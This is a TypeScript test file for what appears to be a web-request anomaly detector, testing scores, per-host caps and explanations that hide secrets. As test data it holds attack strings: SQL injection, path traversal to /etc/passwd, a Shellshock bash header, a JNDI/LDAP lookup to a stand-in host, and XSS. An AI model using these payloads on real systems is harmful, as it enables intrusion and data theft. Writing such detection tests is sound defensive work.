import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { explainRequest, scoreNotes, scoreRequest } from '../../../src/core/model/model.ts'
import { mulberry32 } from '../../../src/core/model/random.ts'
import { createTrainer } from '../../../src/core/model/train/trainer.ts'
import type { HttpRequest } from '../../../src/core/types.ts'
import { baseModel, goodOf, modelOf, ordinaryRequests, requestTo, trainedModel, trainOn } from './samples.ts'

const DAY = 86_400_000
const trained = trainedModel({ count: 3000 })
const model = modelOf(trained)
const INJECTION = `/shop/products?id=1%27%20UNION%20SELECT%20${'password%2C'.repeat(20)}1%20FROM%20users%20--%20%22%3E%3Cscript%3E`

const SHORT = '/shop/products?id=1%27%20UNION%20SELECT%20%27%20FROM%20users%20--'

/** The request with the headers that an ordinary client sends. */
function fromBrowser(uri: string, changes: Partial<HttpRequest> = {}): HttpRequest {
  return requestTo(uri, { headers: ordinaryRequests(1, 3)[0]!.headers, ...changes })
}

// Wide bounds: the forest varies from seed to seed, and 8,000 requests hold less than one of 0.01 %.
for (const { score, share } of [
  { score: 5, share: 0.01 },
  { score: 6, share: 0.0022 },
  { score: 7, share: 0.00046 },
  { score: 8, share: 0.0001 },
]) {
  test(`about ${share * 100} % of ordinary requests that were not trained on reach ${score}`, () => {
    const unseen = ordinaryRequests(8000, 77)
    const found = unseen.filter(request => scoreRequest(model, request).score >= score).length / unseen.length
    assert.ok(found < 2.5 * share + 0.0004, `${found * 100} %`)
    if (score < 6) assert.ok(found > share / 4, `${found * 100} %`)
  })
}

test('an injection is strange, and so is each part that attacks are made of', () => {
  for (const request of [
    fromBrowser(INJECTION),
    fromBrowser(`/${'../'.repeat(40)}etc/passwd`),
    fromBrowser('/shop', { headers: [...fromBrowser('/').headers, ['Cookie', 'lang=en; id=1 OR 1=1--']] }),
    fromBrowser('/shop', { headers: [['User-Agent', '() { :; }; /bin/bash -c "id"']] }),
  ])
    assert.ok(scoreRequest(model, request).score > 8, request.uri.slice(0, 40))
})

test('what never came in training does not reach 8 unless other sites would find it strange too', () => {
  const news = ['/shop?fbclid=IwAR0abcDEF123_-xyz', '/shop?utm_source=mail&utm_medium=a', '/shop?unheard=of', `/?q=${'A'.repeat(4000)}`]
  for (const request of news.map(uri => fromBrowser(uri))) {
    const scored = scoreRequest(model, request)
    assert.deepEqual([scored.score, scored.unconfirmed], [7.9, true], request.uri.slice(0, 40))
    assert.deepEqual(scoreNotes(scored), ['new at this host, but nothing strange at others: 7.9 at most'])
    assert.ok(scored.raw > 0.9999, 'the measure itself is not held down')
  }
  const attack = scoreRequest(model, fromBrowser(SHORT))
  assert.ok(attack.score > 8 && !attack.unconfirmed)
})

test('a phrase that no ordinary request of a host has counts as at other sites', () => {
  const random = mulberry32(4)
  const word = () => Array.from({ length: 3 + Math.floor(random() * 10) }, () => 'abcdef.-_~/'[Math.floor(random() * 11)]).join('')
  const varied = trainOn(ordinaryRequests(1100, 1).map(request => ({ ...request, uri: `/${word()}${request.uri}` }))).model
  const probe = fromBrowser('/.env')
  const byItself = scoreRequest(modelOf({ ...varied, hasPhrases: Uint8Array.of(1) }), probe).score
  assert.ok(byItself < 5, String(byItself))
  const { score, capped, ceiling } = scoreRequest(modelOf(varied), probe)
  assert.ok(score > 6 && score <= 6.9, String(score))
  assert.deepEqual([capped, ceiling], [false, 10])
  assert.equal(explainRequest(modelOf(varied), probe)[0]?.feature, 'phrases that are hardly ever anything but an attack')
  // Where own traffic finds it stranger than other sites do, that holds.
  assert.ok(scoreRequest(model, fromBrowser(SHORT)).score > 8)
})

test('a phrase of attacks is found in a cookie without a name, and told by its shape', () => {
  const headers = [...fromBrowser('/').headers, ['Cookie', `a=1; \${jndi:ldap://secret.example/a}`] as const]
  const request = fromBrowser('/shop', { headers, site: 'other.example' })
  assert.ok(scoreRequest(model, request).score > 6)
  const reasons = explainRequest(model, request)
  assert.ok(reasons.some(({ where, value }) => where === 'cookie without a name' && value.includes('{') && !value.includes('secret')))
})

test('less than usual counts as usual: an ordinary page with nothing else is ordinary', () => {
  assert.ok(scoreRequest(model, fromBrowser('/shop')).score < 5)
})

test('more of everything is never less strange than ordinary', () => {
  const unit = '/a.b?c=%27&union'
  const check = (length: number) => scoreRequest(model, fromBrowser(unit.repeat(length))).score >= 7.9
  fc.assert(fc.property(fc.integer({ min: 30, max: 3000 }), check), { numRuns: 30 })
})

const anyText = fc.string({ unit: 'binary', maxLength: 300 })
const anyRequest = fc.record({
  method: anyText,
  uri: fc.oneof(
    anyText,
    anyText.map(piece => piece.repeat(500)),
    anyText.map(piece => `/?${piece}=${piece}`),
  ),
  protocol: anyText,
  headers: fc.array(
    fc.tuple(
      fc.oneof(anyText, fc.constantFrom('User-Agent', 'Content-Length', 'Cookie', 'Host', 'Content-Type', '__proto__')),
      fc.oneof(anyText, fc.nat().map(String), fc.constantFrom('application/json', 'multipart/form-data; boundary=x')),
    ),
  ),
  body: fc.option(fc.oneof(anyText, fc.json()), { nil: undefined }),
})

test('whatever request comes has a score within the scale and a bounded, printable explanation', () => {
  const check = (input: HttpRequest) => {
    for (const judge of [model, modelOf(baseModel())]) {
      const { score, raw } = scoreRequest(judge, input)
      assert.ok(score >= 0 && score <= 10 && raw >= 0 && raw <= 1)
      const reasons = explainRequest(judge, input)
      assert.ok(reasons.length <= 5)
      for (const reason of reasons) {
        const text = JSON.stringify(reason)
        assert.ok(text.length <= 512 && /^[\x20-\x7e]*$/.test(text), text)
        assert.ok(Number.isFinite(reason.surprise) && reason.surprise >= 0.1)
      }
    }
  }
  fc.assert(fc.property(anyRequest, check), { numRuns: 60 })
})

test('an explanation names what stands out in plain words, where, and the piece, most telling first', () => {
  const reasons = explainRequest(model, fromBrowser(`/?q=${'%3Cscript%3E'.repeat(30)}`))
  assert.ok(reasons.length >= 2)
  const surprises = reasons.map(({ surprise }) => surprise)
  assert.deepEqual(
    surprises,
    surprises.toSorted((a, b) => b - a),
  )
  assert.equal(reasons[0]?.where, "argument 'q'")
  assert.match(reasons[0].value, /<script>/)
  assert.match(reasons[0].feature, /^(a sequence of )?signs that/)
  assert.ok(reasons.some(({ feature }) => feature === 'phrases that are hardly ever anything but an attack'))
})

for (const { name, request, where } of [
  { name: 'a path', request: fromBrowser('/shop/../../../../etc/passwd%00'), where: 'path' },
  { name: 'an argument', request: fromBrowser('/shop?id=1%27%20or%201%3D1--'), where: "argument 'id'" },
  {
    name: 'a body',
    request: fromBrowser('/shop', { method: 'POST', body: '{"user":{"name":"x\' or 1=1--"}}' }),
    where: "argument 'name'",
  },
  {
    name: 'a header',
    request: fromBrowser('/shop', { headers: [['User-Agent', '() { :; }; /bin/bash -c "id"']] }),
    where: "header 'user-agent'",
  },
]) {
  test(`an explanation finds ${name}`, () => {
    const reasons = explainRequest(model, request)
    assert.equal(reasons.find(({ value }) => value !== '' && /[^\w ./]/.test(value))?.where, where, JSON.stringify(reasons))
  })
}

test('an explanation shows of what may be secret only its outline', () => {
  const secret = "s3cr3tWord' or 1=1--"
  const requests = [
    ...['password', 'pwd', 'api_key', 'sessionid', 'credit-card', 'X-Auth'].map(name =>
      fromBrowser(`/?${name}=${encodeURIComponent(secret)}`),
    ),
    fromBrowser('/', { headers: [['Cookie', `sid=${secret}`]] }),
    fromBrowser('/', { headers: [['Authorization', `Basic ${secret}`]] }),
    fromBrowser('/', { method: 'POST', body: JSON.stringify({ user: { secret } }) }),
  ]
  for (const request of requests) {
    const reasons = explainRequest(model, request)
    assert.ok(
      reasons.some(({ value }) => value.includes("' ")),
      JSON.stringify(reasons),
    )
    assert.doesNotMatch(JSON.stringify(reasons), /s3cr3t|Word/)
  }
})

test('an ordinary request needs no explanation', () => assert.deepEqual(explainRequest(model, fromBrowser('/shop')).length < 4, true))

/** A model of a host's requests that came evenly over some days. */
function modelOfHost(count: number, days: number | undefined) {
  const trainer = createTrainer({ base: baseModel().detector, seed: 1 })
  const requests = ordinaryRequests(count, 5).map(request => ({ ...request, site: 'own.example' }))
  const circumstances = (index: number) => (days === undefined ? {} : { at: 1000 * DAY + Math.floor((index * days) / count) * DAY })
  requests.forEach((request, index) => void trainer.survey(request, circumstances(index)))
  requests.forEach((request, index) => void trainer.take(request, circumstances(index)))
  return modelOf(goodOf(trainer.finish({ version: 'v', trainedAt: 0 })).model)
}

const CAPS = [
  { count: 199, days: 2, ceiling: 6.9, capped: true },
  { count: 200, days: 2, ceiling: 7.9, capped: false },
  { count: 200, days: undefined, ceiling: 7.9, capped: false },
  { count: 200, days: 1, ceiling: 6.9, capped: true },
  { count: 999, days: 2, ceiling: 7.9, capped: false },
  { count: 1000, days: 2, ceiling: 10, capped: false },
  { count: 1000, days: 1, ceiling: 6.9, capped: true },
]
for (const { count, days, ceiling, capped } of CAPS) {
  test(`a host with ${count} requests of ${days ?? 'unknown'} days scores ${ceiling} at most`, () => {
    const found = modelOfHost(count, days)
    const attack = fromBrowser(SHORT, { site: 'own.example' })
    const { score, ...rest } = scoreRequest(found, attack)
    assert.deepEqual([rest.ceiling, rest.capped], [ceiling, capped])
    assert.ok(capped ? score >= 5 && score <= ceiling : score === ceiling, String(score))
    // Whatever the host's own data allow, nobody gets more by naming another host.
    const elsewhere = scoreRequest(found, { ...attack, site: 'other.example' })
    assert.deepEqual([elsewhere.ceiling, elsewhere.capped], [6.9, true])
    assert.ok(elsewhere.score <= 6.9)
  })
}

test('a model of one site never scores the traffic of another as a sure attack', () => {
  const one = modelOf(trainOn(ordinaryRequests(1000, 2).map(request => ({ ...request, site: 'own.example' }))).model)
  const check = (input: HttpRequest) => {
    const { score, capped, ceiling } = scoreRequest(one, { ...input, site: 'other.example' })
    assert.ok(score <= 6.9 && capped && ceiling === 6.9)
  }
  fc.assert(fc.property(anyRequest, check), { numRuns: 60 })
  check(fromBrowser(INJECTION))
})

test('a port, capitals or a dot at the end make no other host of it', () => {
  const one = modelOf(trainOn(ordinaryRequests(200, 2).map(request => ({ ...request, site: 'own.example' }))).model)
  for (const host of ['own.example', 'OWN.example', 'own.example:8443', 'own.example.', ' own.example. '])
    assert.equal(scoreRequest(one, fromBrowser('/', { site: host })).capped, false, host)
  for (const host of ['own.example.org', 'sown.example', '', 'own.example/'])
    assert.equal(scoreRequest(one, fromBrowser('/', { site: host })).capped, true, host)
})

for (const { name, changes, missing } of [
  { name: 'all there', changes: {}, missing: [] },
  { name: 'an access log', changes: { knownHeaders: 'few' as const }, missing: ['headers'] },
  { name: 'no headers', changes: { knownHeaders: 'none' as const, headers: [] }, missing: ['headers'] },
  { name: 'a body that was announced', changes: { headers: [['Content-Length', '5'] as const] }, missing: ['body'] },
  { name: 'an announced body that is there', changes: { headers: [['Content-Length', '5'] as const], body: 'a=bcd' }, missing: [] },
  { name: 'a body of no bytes', changes: { headers: [['Content-Length', '0'] as const] }, missing: [] },
]) {
  test(`tells what is missing: ${name}`, () => {
    const { missing: found, score } = scoreRequest(model, fromBrowser('/shop', changes))
    assert.deepEqual(found, missing)
    assert.ok(score <= 10)
  })
}

test('missing headers are nothing strange, an attack in what is there is', () => {
  const few = { knownHeaders: 'few' as const, headers: [fromBrowser('/').headers[0]!] }
  assert.ok(scoreRequest(model, requestTo('/shop', few)).score < 5)
  assert.ok(scoreRequest(model, requestTo(INJECTION, few)).score > 8)
})

test('a form that is sent is nothing strange where an access log was learnt, or no header is known; an attack in it is', () => {
  const site = 'shop.example'
  const type = ['Content-Type', 'application/x-www-form-urlencoded'] as const
  const agent = ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64)'] as const
  const order = (changes: Partial<HttpRequest>) => requestTo('/order', { method: 'POST', site, ...changes })
  const learnt = {
    'an access log': { knownHeaders: 'few' as const, headers: [agent] },
    'whole requests': { body: 'item=7&note=please+ring', headers: [agent, type] },
  }
  const body = 'item=3&note=call+me'
  const sent = { 'all headers': { body, headers: [agent, type] }, 'no headers': { body, headers: [], knownHeaders: 'none' as const } }
  const attack = 'item=../../../../../../etc/passwd&note=<script>alert(1)</script>'
  for (const [from, headers] of Object.entries(learnt)) {
    const visits = Array.from({ length: 1200 }, (_, at) =>
      at % 4 === 0 ? order(headers) : requestTo(`/shop?page=${at % 30}`, { site, ...headers, body: undefined }),
    )
    const learning = modelOf(trainOn(visits).model)
    for (const [what, request] of Object.entries(sent)) {
      const score = scoreRequest(learning, order(request)).score
      assert.ok(score < 5, `${from}, ${what}: ${score}`)
      const strange = scoreRequest(learning, order({ ...request, body: attack })).score
      // Of bodies an access log says nothing: the base model knows them, which says 6.9 at most.
      assert.ok(from === 'an access log' ? strange > 5 && strange <= 6.9 : strange > 8, `${from}, ${what}, an attack: ${strange}`)
    }
  }
})
